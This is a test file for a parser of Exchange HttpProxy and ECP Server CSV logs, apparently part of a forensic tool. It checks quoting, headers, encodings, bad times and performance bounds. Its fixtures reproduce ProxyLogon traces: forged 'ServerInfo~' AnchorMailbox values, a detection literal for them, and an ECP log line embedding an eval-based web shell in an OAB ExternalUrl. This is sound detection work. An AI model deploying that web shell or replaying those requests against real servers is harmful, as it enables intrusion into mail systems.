// Tests for Exchange CSV logs: headers and #Fields, quoting and its bounds, encodings, times, ECP event data.

import assert from 'node:assert/strict';
import test from 'node:test';
import { parseWith } from '../parse-text.js';
import { assertAccounted, decodedOutcome, feed, utf16 } from '../text/testing/feed.js';
import { MAX_RECORD_LINES } from './parser.js';

const FIELDS = 'DateTime,RequestId,UrlStem,UrlQuery,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus';
const HEADER = `${FIELDS}\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T06:00:00.000Z\r\n#Fields: ${FIELDS}\r\n`;

test('takes columns by name and reads quoted fields with commas and doubled quotes', () => {
  const text =
    '\ufeff' +
    HEADER +
    '2021-03-03T06:49:42.162Z,r1,/ecp/y.js,?a=1,"ServerInfo~a]@x:444/ecp/proxyLogon.ecp?#","UA, with ""quotes""",1.2.3.4 10.0.0.1,241\r\n';
  const { records, problems, versions } = parseWith(
    'httpproxy',
    'HttpProxy/Ecp/HttpProxy_2021030306-1.LOG',
    text,
    5,
  );
  assert.deepEqual(problems, []);
  assert.equal(records.length, 1);
  const r = records[0];
  assert.equal(r?.get('UserAgent'), 'UA, with "quotes"');
  assert.equal(r?.get('clientipaddress'), '1.2.3.4 10.0.0.1');
  assert.equal(r?.get('Uri'), '/ecp/y.js?a=1');
  assert.equal(r?.time, '2021-03-03T06:49:42.162Z');
  assert.equal(r?.line, 7);
  assert.deepEqual(versions, [{ build: '15.01.2176.002', time: '2021-03-03T06:00:00.000Z' }]);
});

test('skips a header row repeated as data and follows a changed column set', () => {
  const text =
    HEADER +
    `${FIELDS}\r\n` +
    '#Fields: DateTime,HttpStatus,UrlStem\r\n' +
    '2021-03-03T07:00:00.000Z,200,/owa/\r\n';
  const { records, problems } = parseWith('httpproxy', 'HttpProxy/Owa/x.LOG', text);
  assert.deepEqual(problems, []);
  assert.equal(records.length, 1);
  assert.equal(records[0]?.get('UrlStem'), '/owa/');
  assert.equal(records[0]?.get('AnchorMailbox'), undefined);
});

test('reports rows with the wrong column count and an unclosed quote at the end', () => {
  const text =
    HEADER + '2021-03-03T07:00:00.000Z,r,/a,,x,UA,1.2.3.4,200,extra\r\n2021-03-03T07:00:01.000Z,r,"open';
  const { records, problems } = parseWith('httpproxy', 'p.LOG', text);
  assert.equal(records.length, 0);
  assert.deepEqual(
    problems.map((p) => [p.code, p.line]),
    [
      ['csv.bad-line', 7],
      ['csv.unclosed-quote', 8],
    ],
  );
});

test('a row cut short is read with the columns it has, and said so', () => {
  const text = HEADER + '2021-03-03T07:00:00.000Z,r1,/ecp/y.js,,ServerInfo~a]@x:444/mapi/emsmdb/?#\r\n';
  const { records, problems } = parseWith('httpproxy', 'p.LOG', text);
  assert.deepEqual(
    problems.map((p) => [p.code, p.line, p.severity]),
    [['csv.short-row', 7, 'warning']],
  );
  assert.equal(records[0]?.get('AnchorMailbox'), 'ServerInfo~a]@x:444/mapi/emsmdb/?#');
  assert.equal(records[0]?.get('HttpStatus'), undefined);
});

test("Export-Csv's #TYPE line: the quoted header row after it names the columns", () => {
  const text =
    '#TYPE Selected.System.Management.Automation.PSCustomObject\r\n' +
    '"DateTime","RequestId","AnchorMailbox","HttpStatus"\r\n' +
    '"2021-03-03T06:49:46.210Z","r1","ServerInfo~a]@x:444/ecp/proxyLogon.ecp?#","241"\r\n';
  const { records, problems } = parseWith('httpproxy', 'HttpProxy/Ecp/HttpProxy_2021030306-1.LOG', text);
  assert.deepEqual(problems, []);
  assert.equal(records.length, 1);
  assert.equal(records[0]?.get('HttpStatus'), '241');
  assert.equal(records[0]?.time, '2021-03-03T06:49:46.210Z');
});

test('joins a quoted value that spans lines', () => {
  const text = HEADER + '2021-03-03T07:00:00.000Z,r,/owa/,,"a\r\nb",UA,1.2.3.4,200\r\n';
  const { records, problems } = parseWith('httpproxy', 'p.LOG', text);
  assert.deepEqual(problems, []);
  assert.equal(records[0]?.get('AnchorMailbox'), 'a\nb');
});

test('parses ECP Server event data, whose values may contain semicolons', () => {
  const text =
    '#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n' +
    `2021-03-03T06:49:53.772Z,EX01,ECP.Request,"S:TIME=13;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script>function Page_Load(){eval(Request[""k""],""unsafe"");}</script>'.Identity='x';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=abc"\r\n`;
  const { records, problems } = parseWith('ecp-server', 'ECP/Server/ECPServer20210303-1.LOG', text);
  assert.deepEqual(problems, []);
  const r = records[0];
  assert.match(
    String(r?.get('CMD')),
    /^Set-OabVirtualDirectory\.ExternalUrl='http:\/\/f\/<script>.*unsafe"\);}<\/script>'\.Identity='x'$/,
  );
  assert.equal(r?.get('URL'), '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=abc');
  assert.equal(r?.get('REQID'), '');
});

const GATE = { literals: [{ text: 'serverinfo~', mask: 1 }], all: false };
const ROW = (t: string, stem = '/owa/', anchor = '') =>
  `2021-03-03T${t}.000Z,r,${stem},,${anchor},UA,1.2.3.4,200`;

test('UTF-16 with and without a BOM reads like UTF-8, header row and #Fields included', () => {
  const text =
    HEADER +
    [ROW('07:00:00'), ROW('07:00:01', '/ecp/y.js', 'ServerInfo~a]@x:444/ecp/'), 'bad,row'].join('\r\n') +
    '\r\n';
  const want = feed('httpproxy', Buffer.from(text), [], GATE);
  assert.equal(want.records.length, 1);
  assert.equal(want.tallied.records, 1);
  assert.deepEqual(want.versions, ['15.01.2176.002']);
  for (const be of [false, true])
    for (const bom of [false, true])
      for (const chunking of [[], [1], [5, 11]]) {
        const got = feed('httpproxy', utf16(text, be, bom), chunking, GATE);
        assert.deepEqual(decodedOutcome(got), decodedOutcome(want), `be ${be} bom ${bom}`);
      }
});

test('#Fields changing mid-file and header rows repeated, late or missing have defined outcomes', () => {
  const text =
    'DateTime,UrlStem\r\n' + // line 1: the header row
    '2021-03-03T07:00:00.000Z,/owa/\r\n' +
    '2021-03-03T07:00:01.000Z,/owa/,extra\r\n' + // does not fit: line 3
    '#Fields: DateTime,HttpStatus,UrlStem\r\n' +
    '2021-03-03T07:00:02.000Z,200,/owa/\r\n' +
    'DateTime,HttpStatus,UrlStem\r\n' + // repeated: skipped
    'DateTime,UrlStem,AnchorMailbox,HttpStatus\r\n' + // a later header row: its layout applies
    '2021-03-03T07:00:03.000Z,/ecp/,ServerInfo~x,500\r\n';
  for (const gate of [GATE, undefined]) {
    const got = feed('httpproxy', Buffer.from(text), [1], gate);
    assert.deepEqual(
      got.problems.map((p) => [p.code, p.line]),
      [['csv.bad-line', 3]],
    );
    assert.equal(got.records.length + got.tallied.records, 3);
    assertAccounted(got, 8);
  }
  const parsed = parseWith('httpproxy', 'x.LOG', text);
  assert.equal(parsed.records.at(-1)?.get('AnchorMailbox'), 'ServerInfo~x');
});

test('rows before any header are read as text and said once', () => {
  const text = `${ROW('07:00:00')}\r\n${ROW('07:00:01', '/ecp/', 'ServerInfo~x')}\r\n`;
  // Line 1 that is a row (it starts with a time) is not taken for a header.
  const got = parseWith('httpproxy', 'x.LOG', text);
  assert.deepEqual(
    got.problems.map((p) => [p.code, p.line]),
    [['csv.no-header', 1]],
  );
  assert.equal(got.records.length, 2);
  assert.match(got.records[1]!.text(), /ServerInfo~x/);
  assert.equal(got.records[1]!.time, '2021-03-03T07:00:01.000Z');
});

test('impossible times: the row is read without a time, said, and kept out of the range', () => {
  const text =
    HEADER +
    [ROW('07:00:00'), ROW('07:00:01').replace('03-03', '13-45'), ROW('25:00:00'), ROW('07:00:09')].join(
      '\r\n',
    ) +
    '\r\n';
  for (const gate of [GATE, undefined]) {
    const got = feed('httpproxy', Buffer.from(text), [], gate);
    assert.deepEqual(
      got.problems.map((p) => [p.code, p.line]),
      [
        ['csv.bad-time', 8],
        ['csv.bad-time', 9],
      ],
    );
    assert.deepEqual(
      got.records.filter((r) => r.time === undefined).map((r) => r.line),
      [8, 9],
    );
    const times = [...got.records.map((r) => r.time), got.tallied.first, got.tallied.last].filter(Boolean);
    assert.ok(times.every((t) => t! >= '2021-03-03T07:00:00.000Z' && t! <= '2021-03-03T07:00:09.000Z'));
  }
});

test('a stray quote ends at the next row, which is read, and a real multi-line value still joins', () => {
  const text =
    HEADER +
    '2021-03-03T07:00:00.000Z,r,/owa/,,"stray,UA,1.2.3.4,200\r\n' +
    ROW('07:00:01') +
    '\r\n' +
    '2021-03-03T07:00:02.000Z,r,/owa/,,"multi\r\nline\r\nvalue",UA,1.2.3.4,200\r\n' +
    ROW('07:00:03', '/ecp/', 'ServerInfo~x') +
    '\r\n';
  for (const chunking of [[], [1], [7]]) {
    const got = feed('httpproxy', Buffer.from(text), chunking, GATE);
    assert.deepEqual(
      got.problems.map((p) => [p.code, p.line]),
      [['csv.unclosed-quote', 7]],
    );
    // Line 8 is listed as a possible continuation, so it is read in JavaScript rather than counted in place.
    assert.deepEqual(
      got.records.map((r) => r.line),
      [8, 9, 12],
    );
    assert.equal(got.records[1]!.text.split('\n').length, 3);
    assertAccounted(got, 12);
  }
});

test('a quoted value that never closes is cut at the bound, and the lines after it are read', () => {
  const filler = Array.from({ length: MAX_RECORD_LINES + 500 }, (_, i) => `text ${i}`);
  const text = HEADER + '2021-03-03T07:00:00.000Z,r,/owa/,,"open\r\n' + filler.join('\r\n') + '\r\n';
  const got = feed('httpproxy', Buffer.from(text), [], GATE);
  const codes = got.problems.map((p) => p.code);
  assert.equal(codes[0], 'csv.unclosed-quote');
  assert.equal(got.problems[0]!.line, 7);
  // The bounded record holds MAX_RECORD_LINES lines; each line after it is read as a row (and does not fit).
  assert.equal(codes.filter((c) => c === 'csv.bad-line').length, filler.length + 1 - MAX_RECORD_LINES);
  assertAccounted(got, 6 + 1 + filler.length);
});

test('cost stays linear: a quote followed by a million line ends, and a stray quote on every row', () => {
  const started = Date.now();
  const endless = HEADER + '2021-03-03T07:00:00.000Z,r,"' + '\n'.repeat(1_000_000);
  const a = feed('httpproxy', Buffer.from(endless), [], GATE);
  assertAccounted(a, 6 + 1_000_000);
  const stray = HEADER + Array.from({ length: 200_000 }, (_, i) => `${ROW('07:00:00')},"${i}`).join('\n');
  const b = feed('httpproxy', Buffer.from(stray), [], GATE);
  assert.equal(b.account.problems, 200_000);
  // Generous: this is about 2 s on a laptop; a quadratic join would take hours.
  assert.ok(Date.now() - started < 120_000, `took ${Date.now() - started} ms`);
});
